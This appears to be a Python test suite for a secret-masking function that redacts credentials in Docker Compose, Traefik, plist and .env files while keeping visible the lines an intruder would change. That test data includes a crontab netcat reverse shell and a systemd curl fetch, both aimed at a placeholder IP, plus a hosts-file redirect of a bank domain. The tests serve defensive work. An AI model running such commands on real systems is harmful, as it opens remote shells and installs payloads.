"""What is shown of a file holds no secret, wherever in it the secret stands."""

from __future__ import annotations

import re
import time
from typing import Final

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from tests.parts.secret_forms import FORMS

from nightporter.arguments import is_port
from nightporter.sources.integrity.masking import LONGEST, masked
from nightporter.sources.integrity.names import is_harmless

COMPOSE: Final = """
services:
  db:
    image: mysql:8
    environment:
      MYSQL_ROOT_PASSWORD: {s}
      plain: "{s}"
      IN_LIST: [{s}, b]
  app:
    environment:
      - DB_PASS={s}
      - "QUOTED={s}"
      - lower={s}
    env_file: .env
    command: ["--token", "{s}"]
    labels:
      - "traefik.http.middlewares.auth.basicauth.users=ada:{s},eve:{s}"
      - traefik.http.middlewares.auth.basicauth.users=ada:{s}
  other:
    command:
      - --api-key={s}
      - --password
      - {s}
secrets:
  db:
    - {s}
"""
TRAEFIK: Final = """
http:
  middlewares:
    door:
      basicAuth:
        users:
          - "ada:{s}"
        headerField: X-User
    at-one-indent:
      basicAuth:
        users:
        - ada:{s}
        - eve:{s}
    hidden:
      headers:
        customRequestHeaders:
          X-Forwarded-Secret: {s}
          Anything: "{s}"
    block:
      plugin:
        privateKey: |
          {s}
          more {s}
    inline: {{basicAuth: {{users: ["ada:{s}"]}}, password: {s}}}
"""
TOML: Final = """
[http.middlewares.door.basicAuth]
users = [
"ada:{s}",
  "eve:{s}",
]
[db.credentials]
anything = "{s}"
[certificatesResolvers.le.acme.eab]
hmacKey = "{s}"
[more]
password = '''
{s}
'''
"""
CONFIG: Final = """
destinations:
  - {{name: phone, kind: apprise, url: "discord://1234/{s}"}}
  - {{name: post, kind: apprise, url: "mailtos://ada:{s}@example.org"}}
  - name: hook
    kind: apprise
    url: https://example.org/{s}/x
"""
TREE: Final = """
{{
  "auth": {{
    "nested": {{
      "x": "{s}"
    }},
    "z": ["{s}",
      "{s}"
    ]
  }},
  "apiKey": "{s}",
  "port": 80
}}
"""
AGENT: Final = """
<plist version="1.0">
<dict>
  <key>Label</key>
  <string>com.example</string>
  <key>EnvironmentVariables</key>
  <dict>
    <key>CF_TOKEN</key>
    <string>{s}</string>
    <key>password</key><string>{s}</string>
  </dict>
  <key>ProgramArguments</key>
  <array>
    <string>/usr/local/bin/app</string>
    <string>--token</string>
    <string>{s}</string>
    <string>--api-key={s}</string>
  </array>
</dict>
</plist>
"""
ENV: Final = """
PLAIN={s}
export EXPORTED="{s}"
# the last one was {s}
#OLD={s}
MANY="first {s}
{s}"
"""
FILES: Final = {
    "docker-compose.yml": COMPOSE,
    "dynamic.yml": TRAEFIK,
    "traefik.toml": TOML,
    "config.yaml": CONFIG,
    "settings.json": TREE,
    "com.example.plist": AGENT,
    ".env": ENV,
}

PIECE: Final = 6
"""So many characters of a secret in a row are too many to show."""
SECRETS: Final = st.text(
    alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!$%*+./=@^_~#;?-",
    min_size=6,
    max_size=40,
)


@pytest.mark.parametrize("name", FILES)
@example(secret="hunter2")
@example(secret="correct horse battery staple")
@example(secret="$apr1$H6uskkkW$IgXLP6ewTrSuBkTrqE8wj/")
@example(secret="-----begins-with-dashes")
@example(secret="192.168.1.1x")
@given(secret=SECRETS)
def test_no_secret_is_shown(name: str, secret: str) -> None:
    text = FILES[name]
    pieces = {secret[at : at + PIECE] for at in range(len(secret) - PIECE + 1)}
    assume(not is_harmless(secret) and not any(piece in text for piece in pieces))
    shown = masked(name, text.format(s=secret))
    assert shown is not None
    assert [line for line in shown if any(piece in line for piece in pieces)] == []


ALL_FORMS: Final = tuple((name, form) for name, forms in FORMS.items() for form in forms)


def leaks(name: str, form: str, secret: str) -> list[str]:
    """The pieces of the secret that are shown of a file which holds it in this form."""
    pieces = {secret[at : at + PIECE] for at in range(len(secret) - PIECE + 1)}
    text = "\n".join(masked(name, form.format(s=secret)) or ())
    return sorted(piece for piece in pieces if piece in text and piece not in form)


@pytest.mark.parametrize(("name", "form"), ALL_FORMS)
def test_no_form_shows_a_secret_that_looks_like_a_word(name: str, form: str) -> None:
    for secret in ("MyDogRex2019", "hunterpass", "zq!x/@k:zyx", "-pfooobar"):
        assert leaks(name, form, secret) == [], secret


@settings(max_examples=400, derandomize=True)
@given(where=st.sampled_from(ALL_FORMS), secret=SECRETS)
def test_no_form_shows_a_secret(where: tuple[str, str], secret: str) -> None:
    assume(not is_harmless(secret) and not is_port(secret))
    # Where a variable may stand, what begins like one is one: its name is shown.
    assume(not re.match(r"\W*[A-Za-z_][\w.-]*=", secret))
    assert leaks(*where, secret) == []


def shown(name: str, text: str) -> str:
    lines = masked(name, text)
    assert lines is not None
    return "\n".join(lines)


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("docker-compose.yml", "    image: traefik:v3.1.4"),
        ("docker-compose.yml", '    ports: ["80:80", "127.0.0.1:8080:8080"]'),
        ("docker-compose.yml", "      - /Users/ada/docker/mysql8/data:/var/lib/mysql"),
        ("docker-compose.yml", "      - /var/run/docker.sock:/var/run/docker.sock:ro"),
        ("docker-compose.yml", "    privileged: true"),
        ("docker-compose.yml", "      DB_PASS: ${DB_PASS}"),
        ("docker-compose.yml", '      - "traefik.http.routers.a.rule=Host(`a.example.org`)"'),
        ("docker-compose.yml", "      - --api.insecure=true"),
        ("dynamic.yml", "          - url: http://127.0.0.1:32400"),
        ("docker-compose.yml", "    image: plex:two@sha256:0f1e"),
        ("docker-compose.yml", '    user: "1000:1000"'),
        ("docker-compose.yml", '    test: ["CMD", "curl", "-f", "http://localhost:32400/identity"]'),
        ("docker-compose.yml", "    command: run -p 8080:80 -p127.0.0.1:81:81/tcp -u 1000:1000 x"),
        ("docker-compose.yml", "      - traefik.http.routers.a.middlewares=allow@file,auth@docker"),
        ("docker-compose.yml", "      - --certificatesresolvers.le.acme.storage=/acme/acme.json"),
        ("docker-compose.yml", '    entrypoint: ["sh", "-c", "apk add curl && exec /init"]'),
        ("dynamic.yml", "      middlewares: [allow@file, chain]"),
        ("crontab", "@reboot nohup nc -e /bin/sh 203.0.113.9 4444 &"),
        ("crontab", "0 4 * * * ada find /tmp -path /tmp/x -print -prune"),
        ("sshd_config", "PasswordAuthentication yes"),
        ("com.example.plist", "  <key>KeepAlive</key><true/>"),
        ("dynamic.yml", "        sourceRange: [127.0.0.1/32, 192.168.1.0/24, 0.0.0.0/0]"),
        (".env", "IP_ALLOW_LIST=127.0.0.1/32,0.0.0.0/0,2001:db8::/32"),
        (".env", "EMPTY="),
        ("hosts", "203.0.113.9 accounts.example.org bank"),
        ("com.example.plist", "  <string>/Users/ada/.hidden/payload</string>"),
        ("x.service", "ExecStart=/usr/bin/curl -fsSL http://203.0.113.9/x.sh"),
    ],
    ids=lambda value: value.strip()[:40],
)
def test_what_an_intruder_would_change_is_shown(name: str, line: str) -> None:
    assert shown(name, line) == line


def test_whom_a_proxy_asks_for_leave_is_shown() -> None:
    text = "fwd:\n  forwardAuth:\n    address: http://authelia:9091/api/verify\n    trustForwardHeader: true"
    assert shown("dynamic.yml", text) == text


def test_what_follows_a_secret_is_shown() -> None:
    text = "password: {s}\nimage: plex:two\ncommand:\n  - --token\n  - {s}\n  - --port\n  - 80\nports: [80]"
    assert shown("a.yml", text.format(s="hunterpass")) == text.replace("- {s}", "- ***").format(s="***")
    element = "<key>Password</key><string>{s}</string><key>Label</key><string>com.example</string>"
    assert shown("a.plist", element.format(s="hunterpass")) == element.format(s="***")


def test_of_a_pinned_image_the_beginning_is_enough() -> None:
    line = "image: traefik@sha256:" + "3f2a8c9d" * 8
    assert shown("compose.yml", line) == "image: traefik@sha256:3f2a8c9d3f2a"


@pytest.mark.parametrize(
    "word",
    ["sk_live_4eC39HqLyjWDarjtT1zdp7dc", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "AKIAIOSFODNN7EXAMPLE",
     "kQzTnWvLmPxRbYcDkQzT", "3f2a8c9d1e4b5a6f", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"],
)  # fmt: skip
def test_a_token_is_known_by_its_look(word: str) -> None:
    assert word not in shown("script.sh", f"curl -H x {word} https://example.org")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("acme.json", "{}"),
        ("acme-staging.json", "{}"),
        ("id_ed25519", "x"),
        ("Server.KEY", "x"),
        (".htpasswd", "ada:x"),
        ("notes.txt", "-----BEGIN OPENSSH PRIVATE KEY-----\nx\n"),
        ("long.txt", "x\n" * 5_000),
    ],
    ids=lambda value: value[:20],
)
def test_of_some_files_nothing_is_shown(name: str, text: str) -> None:
    assert masked(name, text) is None


def test_a_line_that_no_person_wrote_is_only_measured() -> None:
    assert shown("a.js", "x" * (LONGEST + 1)) == "*** (1,001 characters)"
    assert shown("a.json", '{"a": {"b": {"c": "d"}}, ' + '"e": 1, ' * 40 + "}") == "*** (346 characters)"


@given(text=st.text(max_size=300), name=st.sampled_from([*FILES, "hosts"]))
def test_any_text_keeps_its_number_of_lines(name: str, text: str) -> None:
    lines = masked(name, text)
    assert lines is None or len(lines) == len(text.splitlines())


@pytest.mark.parametrize(
    "piece",
    [
        "a",
        "a=",
        '"',
        "[",
        "{",
        "-",
        "a.",
        ":",
        "ab1-",
        "--a ",
        "://",
        "$1$",
        "-p",
        '\\\\"-p',
        "'-p \"",
        "-u",
        "echo ",
        "<a>",
        "<key>",
        "mysql curl -u ",
    ],
)
def test_it_takes_time_in_proportion(piece: str) -> None:
    line = (piece * LONGEST)[:LONGEST]
    begun = time.process_time()
    masked("a.yml", "\n".join([line] * 64))
    assert time.process_time() - begun < 2.0
